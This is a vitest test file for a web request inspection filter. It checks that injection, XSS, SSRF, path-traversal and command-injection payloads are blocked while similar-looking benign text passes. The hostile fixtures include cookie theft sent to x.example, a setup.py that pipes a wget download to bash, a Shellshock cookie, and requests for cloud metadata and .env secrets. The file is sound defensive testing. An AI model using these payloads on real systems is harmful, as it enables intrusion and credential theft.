import { expect, test } from 'vitest';
import { policyOf } from '../../../../benchmarks/traffic/policies.ts';
import { type HeaderField, type InspectedRequest, inspect } from '../index.ts';
import { encodeLatin1, post, query, request } from '../testing/requests.ts';

/*
 * Classes of which either side was taken for the other once: attacks beside what people write, search for and send.
 */

const policy = policyOf('medium');
const decided = (one: InspectedRequest) => inspect(policy, one).decision;
const form = (name: string, value: string) =>
  post('application/x-www-form-urlencoded', `${encodeLatin1(name)}=${encodeLatin1(value)}`);
const json = (value: unknown) => post('application/json', JSON.stringify(value));
const get = (target: string, ...headers: HeaderField[]) =>
  request({ target, headers: [['host', 'shop.example.com'], ...headers] });
const text = (value: string) => form('body', value);
const file = (filename: string, content: string, type = 'application/octet-stream') =>
  post(
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--b--\r\n`,
  );

const hostile: Readonly<Record<string, InspectedRequest>> = {
  'a condition behind a backslash': form('pass', ' or ascii(login)>0#'),
  'a condition behind a backslash, with two signs': form('pass', ' and length(name) >= 1 -- '),
  'another column of what is stored': form('city', "Bonn', role='admin', zip='"),
  'a comparison of two results': query("9'=1='9", 'id'),
  'a number with an e': query('1.e(select pin from u)', 'id'),
  'a pattern that waits': query('7 regexp sleep(3)', 'id'),
  'a dump to a name in hexadecimal': query('3 into dumpfile 0x2f746d702f61', 'id'),
  'a group that fails': query('2 or 1 group by concat(user(),rand(0))', 'id'),
  'a function by a constructor': query("';(()=>{})[`constructor`]`alert(1)```;'"),
  'cookies taken': query("x;fetch('//x.example/'+document.cookie)"),
  'cookies behind a keyword': query('x=()=>{return document.cookie}'),
  'a script of the end of a value': query('"><script type=module>import("//x.example/a.js")</script>'),
  'a picture with a handler': query("data:image/svg+xml,<svg onload='x()'>"),
  'a picture with a script, escaped': query('data:image/svg+xml;utf8,%3Csvg%3E%3Cscript%3Ex'),
  'a script of another folder of visitors': query('<script src="uploads/x.js"></script>'),
  'a script of another host': query('<script src=".//x.example/a.js"></script>'),
  'a namespace around a script': file('a.xhtml', '<h:script xmlns:h="x">alert(1)</h:script>'),
  'a package that downloads and runs': file(
    'setup.py',
    'import os\nos.system("wget -qO- http://x.example/a|bash")',
  ),
  'a filter that closes another': text('Filter *)(uid=*))(|(uid=* returns no rows'),
  'a filter for a password': text('Filter (&(uid=a)(userPassword=a*)) is what'),
  'logs of Laravel': query('../storage/logs/laravel.log', 'file'),
  'settings of .NET': json({ name: '..\\..\\appsettings.json' }),
  'a picture that runs': query('//203.0.113.4/a.gif?cmd=id', 'page'),
  'secrets of Jenkins': post('application/octet-stream', 'help@/var/jenkins_home/secrets/master.key'),
  'two addresses for one account': form('user[email][]', 'a@x.example'),
  'a file that was not uploaded': json({ files: { f: { filepath: '/etc/hostname' } } }),
  'the metadata as the page before': get('/', ['referer', 'http://169.254.169.254/latest/user-data']),
  'the metadata as a page before, disguised': get('/', ['referer', 'https://a@0xa9fea9fe/x']),
  'the metadata as a host': get('/', ['x-forwarded-host', '169.254.169.254']),
  'a command of IMAP': query('INBOX"\r\nA3 x\r\nA004 RENAME INBOX y', 'box'),
  'a sheet that fetches': json({ company: '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")' }),
  'a function of bash in a cookie': get('/', ['cookie', '() { :; }; /usr/bin/id']),
  'a PHP name in pieces': query('(sys.(te).m)(id);', 'x'),
  'a PHP name turned around': get('/x?c=[~%8F%97%8F][~%CF]();'),
  'Lua from numbers': query('loadstring(string.char(1,2))()', 'x'),
  'a module of Python at the end of a path': post(
    'text/xml',
    '<methodCall><methodName>supervisor.a.b.os.system</methodName></methodCall>',
  ),
  'a class of a driver that is none': text('Class.forName("java.lang.Runtime")'),
  'a template of Helm with an object': text('{{ include "a" . }}{{ app.request }}'),
  'a prototype in a path of names': query('a.__proto__.b', 'x'),
  'a prototype before a word': query('__proto__[admin] = yes', 'x'),
  'echoing what is called': text('<?= htmlspecialchars(system($_GET["c"])) ?>'),
  'a command behind a listing': json({ buildCommand: 'x;cat /etc/passwd' }),
  'a name of MySQL elsewhere': json({ host: 'x`id`' }),
  'a command of base64 behind a picture': query('data:image/png;base64 /etc/passwd', 'img'),
  'a template that pipes to a shell': query('{{ x | printf "%q" }};id', 'host'),
  'a command under a name of SQL': form('sql_query', '$(id)'),
  'a command in backticks under a name of SQL': form('sql', 'x`id`'),
  'a file behind a type of data': query('data:a/b;base64 passwords', 'file'),
  'a driver that leads to a loader': text('Class.forName("org.h2.Driver").classLoader.loadClass("x")'),
  'a driver that leads to a class': text('Class.forName("com.a.Driver").newInstance().class'),
  'a program read by a function of any case': query("fs.readfile('./config.php')", 'x'),
  'secrets read by a function': query("fs.readFile('./.env')", 'x'),
  'an element behind what ends another': query('x"> ab <script>'),
  'a disguised page before words': text('http://0x7f.1/x works for me'),
  'a folder of a stranger': json({ media_path: 'smb://files.x.example/a' }),
  'a folder of the server itself': json({ share: 'smb://127.0.0.1/c$' }),
  'a folder of the metadata': json({ backup: 'smb://169.254.169.254/a' }),
  'a folder in an address': query('smb://nas/a', 'folder'),
  'a table of plurals': query('SELECT Email, Phone FROM Contacts'),
  'what a database knows of its session': query('SELECT session_user, current_database FROM Task'),
  'a query of SOQL for an argument': json({ id: 'SELECT Username, Email FROM Contact' }),
  'a picture that takes a command': query('http://203.0.113.4/a.png?c=id', 'page'),
  'secrets in the folder of the application': json({ files: { f: { filepath: '/app/.env' } } }),
  'a change to nothing': form('city', 'update users set expires = null'),
  'a change with a bare value and a condition': form('city', 'update users set admin = yes where id = 1'),
  'a page of this server': form('url', 'http://localhost:3000/?a=b works on my machine'),
};

test.each(Object.entries(hostile))('blocks %s', (_what, one) => {
  expect(decided(one)).toBe('block');
});

const harmless: Readonly<Record<string, InspectedRequest>> = {
  'columns that somebody asks about': query('id, name from the list', 'fields'),
  'an address of a mail': form('note', "Anna's, room='3', floor=2"),
  'a clause of a contract': text('Sections 1.d and 1.e(iii) apply'),
  'a wish': query('grouped by concat and sorted'),
  'a name with brackets': get('/x?filter[name or title]=b&where[a]=1'),
  'cookies in a sentence': text('Blocked a frame from accessing document.cookie'),
  'a call in a sentence': text('use textContent, never document.write() in 2026'),
  'an element in a question': text('CSP blocks my inline <script nonce>'),
  'an element with a type': query('<script type="module"> support in browsers'),
  'a drawing': form(
    'img',
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><path d='M1 1'/></svg>",
  ),
  'a filter in a question': text('Why does (&(objectClass=person)(sn=Smith)) find no rows?'),
  'an import of a module': text("import x from '../../../utils/helpers' is ugly"),
  'a key of a client': text('ssh -i ~/.ssh/id_rsa ann@host asks for a password'),
  'a listing': json({
    messages: [{ role: 'tool', content: 'total 8\n-rw-r--r-- 1 root root 12 Jan 4 .env' }],
  }),
  'a log that is watched': text('tail -f /var/log/syslog | grep usb'),
  'a job of cron': text('*/5 * * * * cd /srv/app && node job.js never runs'),
  'a build': json({ buildCommand: 'npm run build && cp -r public dist' }),
  'a query with quoted names': json({ sql_query: 'SELECT `id` FROM `posts` ORDER BY `posts`.`id` DESC' }),
  'a query that calls itself': text(
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t) SELECT sum(n) FROM t; what's wrong?",
  ),
  'slow queries': post('text/plain', "# Time: 1\nSET timestamp=1700000000;\nSELECT * FROM o WHERE s='a';\n"),
  'a chart of Helm': text('{{ include "app.fullname" . | nindent 4 }} breaks my YAML'),
  'a template of Go': text('{{ .Name | printf "%q" }}</li> is how'),
  'a driver of a database': text('Class.forName("com.mysql.cj.jdbc.Driver") still needed?'),
  'a file that a program reads': text("fs.readFile('./data.json', cb) gives ENOENT"),
  'a page of PHP': text("<td><?= htmlspecialchars($r['name']) ?></td>"),
  'a prototype in a question': text('What is obj.__proto__ and Foo.prototype?'),
  'a prototype that somebody looks for': query('__proto__ deprecated setPrototypeOf'),
  'a picture that somebody looks for': query('data:image/png;base64 css background'),
  'a version that is printed': text("node -e 'console.log(process.versions.v8)' prints what?"),
  'a page of a developer': json({ text: 'http://localhost:3000/?debug=true works on my machine' }),
  'a sheet of an interface': json({ values: [['=IMPORTXML(A1,"//a")']] }),
  'a page before': get('/', ['referer', 'https://shop.example.com/169.254.169.254/x']),
  'a host behind a proxy': get('/', ['x-forwarded-host', 'shop.example.com']),
  'a package': file('setup.py', 'from setuptools import setup\nsetup(name="a")'),
  'addresses of an invitation': form('invite[email][]', 'a@x.example'),
  'a file of a form': json({ files: { f: { name: '/a.txt', size: 3 } } }),
  'a query of a class of Salesforce in an editor': json({ soql: 'SELECT Username, Email FROM Contact' }),
  'rows that a name is asked of': json({ sql: 'SELECT `id` FROM `posts`' }),
  'a picture of a camera': query('http://203.0.113.4/cam.jpg?x=3', 'src'),
  'a file that a tool wrote': json({ files: [{ filepath: '/app/page.tsx', content: 'x' }] }),
  'settings in words': form('task', 'Update settings set language = German'),
  'a place in a queue': form('task', 'Insert into queue set aside'),
  'songs for the heart': form('task', 'insert into heart select songs'),
  'a certificate that is moved': request({
    method: 'MOVE',
    target: '/dav/shop.pem',
    headers: [
      ['host', 'shop.example.com'],
      ['destination', '/dav/shop.cer'],
    ],
  }),
  'a property of a bean': text('#{bean.value} prints nothing'),
};

test.each(Object.entries(harmless))('passes %s', (_what, one) => {
  expect(decided(one)).toBe('pass');
});
